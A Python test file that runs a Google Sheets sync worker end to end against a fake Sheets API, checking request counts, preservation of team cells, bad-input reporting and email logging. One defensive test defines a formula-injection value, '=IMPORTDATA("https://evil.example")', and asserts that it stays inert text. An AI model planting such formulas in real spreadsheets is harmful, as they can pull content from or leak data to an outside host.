"""End to end on the Google backend: the sample workbook in the fake Sheets API, through read, plan
and write-back, with the same cases as tests/test_cycle_xlsx.py, and the requests each cycle costs."""

import datetime as dt
from zoneinfo import ZoneInfo

import pytest
import responses

from sheets_sync.config import load_config, parse_config
from sheets_sync.model import TAB_SPECS, MessageKind, Tab, TouchStatus
from sheets_sync.runtime.cycle import WorkerState, run_once
from sheets_sync.runtime.sending import Mailer
from sheets_sync.runtime.summary import check_report
from sheets_sync.sheet import dates
from sheets_sync.sheet.workbook import read_book, tab_names
from tests.fake_sheets import FakeSheetsAPI, Formula, google_source, seed_from_workbook
from tests.samples import copy_sample
from tests.sent import to_partners
from tests.test_bad_input import BAD, LONG

TODAY = dt.date(2026, 11, 26)  # a Thursday
KEY = "1sHeEtSsYnCkEy"
EVIL = '=IMPORTDATA("https://evil.example")'


def noon(config, day=TODAY):
    return dt.datetime.combine(day, dt.time(12), tzinfo=ZoneInfo(config.timezone))


@pytest.fixture
def api():
    fake = FakeSheetsAPI()
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        yield fake.register(mock)


def sample(api, tmp_path, lang="en"):
    config = load_config(copy_sample(tmp_path / lang, lang, TODAY))
    seed_from_workbook(api, KEY, config.source.path)
    return config


def team_cells(api, config) -> dict:
    """Every cell the team owns, by tab, row and header (what the worker must never change)."""
    out = {}
    for tab, spec in TAB_SPECS.items():
        sheet = api.spreadsheets[KEY][config.tab_name(tab)]
        rows = sheet.table()
        worker = {config.column_name(tab, c.value) for c in (*spec.worker, spec.columns.ID)}
        for number, row in enumerate(rows[1:], start=2):
            for name, value in zip(rows[0], row, strict=False):
                if name not in worker and name != config.column_name(tab, "Follow-up"):
                    out[(tab, number, name)] = value
    return out


def test_first_cycle_fills_every_worker_column_with_date_formatted_serials(api, tmp_path):
    config = sample(api, tmp_path)
    before = team_cells(api, config)
    source = google_source(api, KEY)
    assert api.log == ["get"]  # the metadata, once, at start-up
    report = run_once(source, config, noon(config))
    assert report.written and report.cells_written > 100
    # the read, the re-read, the one-time layout request (columns, Dashboard, date formats), the values
    assert api.log[1:] == ["values:batchGet", "values:batchGet", "batchUpdate", "values:batchUpdate"]

    sheet = api.spreadsheets[KEY][config.tab_name(Tab.PARTNERS)]
    header = sheet.table()[0]
    for column in TAB_SPECS[Tab.PARTNERS].worker:
        assert column.value in header
    col = {name: i + 1 for i, name in enumerate(header)}
    rows = range(2, sheet.last_row() + 1)
    statuses = {sheet.value(r, col["Touch status"]) for r in rows}
    assert statuses <= {s.value for s in TouchStatus} and len(statuses) >= 5
    next_touch = [r for r in rows if sheet.value(r, col["Next touch"]) is not None]
    assert next_touch
    for r in next_touch:
        assert isinstance(sheet.value(r, col["Next touch"]), int)  # a serial number, not text
        assert sheet.number_format(r, col["Next touch"]) == {"type": "DATE", "pattern": "yyyy-mm-dd"}
    assert all(sheet.value(r, col["ID"]) for r in rows)
    assert "Dashboard" in [s.title for s in api.spreadsheets[KEY].sheets]
    after = team_cells(api, config)
    assert {k: v for k, v in after.items() if k in before} == before
    assert all(
        kind == "values:batchUpdate" and body["valueInputOption"] == "RAW"
        for kind, body in api.bodies
        if kind.startswith("values")
    )


def test_a_second_cycle_the_same_day_writes_nothing_in_one_request(api, tmp_path):
    config = sample(api, tmp_path)
    source = google_source(api, KEY)
    run_once(source, config, noon(config))
    cells = {s.title: dict(s.cells) for s in api.spreadsheets[KEY].sheets}
    mark = len(api.log)
    report = run_once(source, config, noon(config), state=WorkerState())
    assert not report.written and report.cells_written == 0
    assert api.log[mark:] == ["values:batchGet"]
    assert {s.title: s.cells for s in api.spreadsheets[KEY].sheets} == cells


def test_every_poll_reads_once_since_a_google_sheet_has_no_cheap_fingerprint(api, tmp_path):
    config = sample(api, tmp_path)
    source, state = google_source(api, KEY), WorkerState()
    run_once(source, config, noon(config), state=state)
    mark = len(api.log)
    for _ in range(3):
        assert not run_once(source, config, noon(config), state=state).skipped
    assert api.log[mark:] == ["values:batchGet"] * 3


def test_the_next_day_rewrites_dates_in_three_requests(api, tmp_path):
    config = sample(api, tmp_path)
    source = google_source(api, KEY)
    run_once(source, config, noon(config))
    mark = len(api.log)
    report = run_once(source, config, noon(config, TODAY + dt.timedelta(days=1)))
    assert report.written and report.cells_written > 0
    assert api.log[mark:] == ["values:batchGet", "values:batchGet", "values:batchUpdate"]


def test_sorting_rows_between_cycles_changes_nothing(api, tmp_path):
    config = sample(api, tmp_path)
    source = google_source(api, KEY)
    run_once(source, config, noon(config))
    for tab in (Tab.PARTNERS, Tab.CONTACTS, Tab.ACTIVITIES):
        api.spreadsheets[KEY][config.tab_name(tab)].sort(key=lambda row: str(row[1]), reverse=True)
    mark = len(api.log)
    report = run_once(source, config, noon(config))
    assert report.cells_written == 0 and not report.written
    assert api.log[mark:] == ["values:batchGet"]


def test_the_russian_sample_runs_under_its_own_names(api, tmp_path):
    config = sample(api, tmp_path, "ru")
    report = run_once(google_source(api, KEY), config, noon(config))
    assert report.written and not report.problems
    book = api.spreadsheets[KEY]
    header = book[config.tab_name(Tab.PARTNERS)].table()[0]
    assert config.column_name(Tab.PARTNERS, "Touch status") in header
    assert "Touch status" not in header
    assert config.tab_name(Tab.DASHBOARD) in [s.title for s in book.sheets]
    again = run_once(google_source(api, KEY), config, noon(config))
    assert again.cells_written == 0 and not again.written


def test_a_partner_named_like_a_formula_stays_text(api, tmp_path):
    config = sample(api, tmp_path)
    source = google_source(api, KEY)
    run_once(source, config, noon(config))
    dashboard = api.spreadsheets[KEY]["Dashboard"].table()
    first_late = next(i for i, row in enumerate(dashboard) if row and row[0] == "Most overdue") + 1
    name = dashboard[first_late][0]
    partners = api.spreadsheets[KEY][config.tab_name(Tab.PARTNERS)]
    row = next(
        r for r in range(2, partners.last_row() + 1) if partners.value(r, partners.column("Partner")) == name
    )
    partners.set(row, partners.column("Partner"), EVIL)  # a teammate pastes it in

    report = run_once(source, config, noon(config))
    assert report.written
    dashboard = api.spreadsheets[KEY]["Dashboard"]
    assert EVIL in [dashboard.value(r, 1) for r in range(1, dashboard.last_row() + 1)]
    every_cell = [v for s in api.spreadsheets[KEY].sheets for v in s.cells.values()]
    assert not any(isinstance(v, Formula) for v in every_cell)


def test_malformed_cells_never_stop_a_cycle_and_every_problem_is_reported(api, tmp_path):
    api.create(KEY, "Bad", {name: [list(r) for r in rows] for name, rows in BAD.items()})
    config = parse_config({"source": {"kind": "google", "spreadsheet": KEY}}, tmp_path)
    before = {(s.title, k): v for s in api.spreadsheets[KEY].sheets for k, v in s.cells.items()}
    source = google_source(api, KEY)

    report = run_once(source, config, noon(config))
    assert report.written and report.plan is not None
    problems = {(p.tab.value, p.row, p.column) for p in report.problems}
    assert {
        ("Partners", 2, "Since"),
        ("Partners", 3, "ID"),
        ("Partners", 5, "Partner"),
        ("Contacts", 4, "Email"),
        ("Activities", 3, "Amount"),
        ("News", 2, "Publish"),
    } <= problems
    partners = api.spreadsheets[KEY]["Partners"]
    note = partners.column("Sync note")
    assert 'Rank: unknown rank "Z"' in partners.value(3, note)
    for tab, row, _ in problems:
        sheet = api.spreadsheets[KEY][tab]
        if tab != "News":
            assert sheet.value(row, sheet.column("Sync note")), (tab, row)

    after = {(s.title, k): v for s in api.spreadsheets[KEY].sheets for k, v in s.cells.items()}
    changed = {k for k in before if before[k] != after.get(k)}
    assert changed == set()  # the team's cells are all still there
    new = {k for k in after if k not in before and k[0] != "Dashboard"}
    id_cells = {k for k in new if k[1][1] == 1 and k[0] == "Partners"}
    assert {k[1] for k in id_cells} == {(4, 1), (6, 1)}  # the two empty IDs were filled
    assert after[("Partners", (2, 11))] == LONG
    assert isinstance(after[("Partners", (4, 2))], str)  # "=A1" typed as text stays text

    rb = read_book(source.read(tab_names(config)), config)
    text = check_report(rb)
    assert "Partners!F2" in text and "Activities!B4" in text and "Contacts!C4" in text


def logged_rows(api, config) -> list[dict]:
    sheet = api.spreadsheets[KEY][config.tab_name(Tab.ACTIVITIES)]
    header, *rows = sheet.table()
    logged = []
    for number, row in enumerate(rows, start=2):
        cells = dict(zip(header, row, strict=False))
        if cells["Type"] in ("follow-up", "sales kit", "newsletter", "greeting"):
            logged.append(
                {**cells, "row": number, "date format": sheet.number_format(number, header.index("Date") + 1)}
            )
    return logged


def test_a_cycle_that_sends_logs_each_email_below_the_last_row(api, tmp_path):
    config = sample(api, tmp_path)
    last_row = api.spreadsheets[KEY][config.tab_name(Tab.ACTIVITIES)].last_row()
    source = google_source(api, KEY)
    mark = len(api.log)
    report = run_once(source, config, noon(config), mailer=Mailer.from_config(config))
    partner_mail = to_partners(report)
    assert report.written and partner_mail
    assert api.log[mark:] == ["values:batchGet", "values:batchGet", "batchUpdate", "values:batchUpdate"]
    logged = logged_rows(api, config)
    assert [r["row"] for r in logged] == list(range(last_row + 1, last_row + 1 + len(partner_mail)))
    assert all(r["ID"] and r["Date"] == dates.to_serial(TODAY) for r in logged)
    assert all(r["date format"] == {"type": "DATE", "pattern": "yyyy-mm-dd"} for r in logged)

    mark = len(api.log)
    again = run_once(source, config, noon(config).replace(hour=15), mailer=Mailer.from_config(config))
    assert again.delivery.sent == [] and not again.written
    assert api.log[mark:] == ["values:batchGet"]
    assert len(logged_rows(api, config)) == len(partner_mail)


def test_sent_emails_are_logged_once_even_when_the_write_failed(api, tmp_path):
    config = sample(api, tmp_path)
    source = google_source(api, KEY)
    api.fail("values:batchUpdate", 503, times=5)
    first = run_once(source, config, noon(config), mailer=Mailer.from_config(config))
    assert first.delivery.sent and not first.written and logged_rows(api, config) == []
    second = run_once(source, config, noon(config).replace(hour=13), mailer=Mailer.from_config(config))
    assert second.delivery.sent == [] and second.written
    partner_mail = to_partners(first)
    assert len(logged_rows(api, config)) == len(partner_mail)
    run_once(source, config, noon(config).replace(hour=14), mailer=Mailer.from_config(config))
    assert len(logged_rows(api, config)) == len(partner_mail)


def test_digests_link_each_item_to_its_row_in_the_sheet(api, tmp_path):
    config = sample(api, tmp_path)
    source = google_source(api, KEY)
    mailer = Mailer.from_config(config, row_link=lambda tab, row: source.row_url(config.tab_name(tab), row))
    report = run_once(source, config, noon(config), mailer=mailer)
    digests = [m for m, _ in report.delivery.sent if m.kind is MessageKind.DIGEST]
    gids = [api.spreadsheets[KEY][config.tab_name(tab)].sheet_id for tab in (Tab.PARTNERS, Tab.ACTIVITIES)]
    links = [f"https://docs.google.com/spreadsheets/d/{KEY}/edit#gid={gid}&amp;range=A" for gid in gids]
    assert digests and all(any(link in m.html for link in links) for m in digests)
    assert any(links[1] in m.html for m in digests)  # a follow-up or a next step: the activity's own row
    assert source.row_url("No such tab", 2) is None
